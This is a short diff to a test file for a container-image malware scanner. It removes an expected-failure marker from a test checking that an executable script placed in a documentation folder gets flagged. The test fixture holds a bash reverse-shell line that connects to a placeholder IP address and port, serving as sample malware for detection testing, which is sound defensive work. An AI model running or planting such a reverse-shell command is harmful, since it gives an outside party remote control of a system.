@@ -222,7 +222,6 @@ def test_a_list_that_is_none_names_the_line(tmp_path: Path, holdfast: Holdfast) 
 HIDDEN = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n"
 
 
-@pytest.mark.xfail(strict=True, reason="malware/engine.py _TALKING: low confidence even where it may be executed")
 def test_a_program_in_a_folder_of_documentation_is_a_program(tmp_path: Path, holdfast: Holdfast) -> None:
     path = image(tmp_path, [layer({"usr/share/doc/run.sh": file(HIDDEN, mode=0o755)})])
     report = scan(holdfast, f"oci:{path}", "--only", "malware")
